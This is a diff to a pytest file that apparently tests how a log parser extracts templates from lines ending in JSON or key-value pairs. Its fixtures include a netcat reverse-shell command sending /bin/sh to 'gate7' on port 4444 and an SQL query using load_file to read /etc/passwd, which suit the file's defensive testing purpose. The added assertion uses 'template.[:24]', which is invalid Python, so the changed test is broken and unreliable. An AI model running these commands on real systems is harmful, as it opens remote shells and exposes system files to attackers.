@@ -68,11 +68,11 @@ def test_what_somebody_gave_says_no_command(text):
 
 
 @pytest.mark.parametrize("before, end", [
-    ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '{"cmd":"ls -la"}'), (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'x {"cmd":"ls -la"}'),
+    ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '{"cmd":"ls -la"}'), ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '"GET /a HTTP/1.1" 200'), (f"2026-11-27 10:11:12 INFO jobs ran command: {COMMAND}", '"GET /a HTTP/1.1" 200'), (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'x {"cmd":"ls -la"}'),
     (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'cmd: "ls -la /home"'), ("2026-11-27 10:11:12 INFO query: SELECT load_file('/etc/passwd') FROM a", '{"cmd":"ls -la"}'),
 ])
 def test_an_object_or_a_pair_at_the_end_of_a_line_is_not_what_happened(before, end):
-    assert read(f"{before} {end}").template.startswith(read(before).template.rpartition(" ")[0][:40])
+    assert read(f"{before} {end}").template.startswith(read(before).template.[:24])
 
 
 @pytest.mark.parametrize("line", [
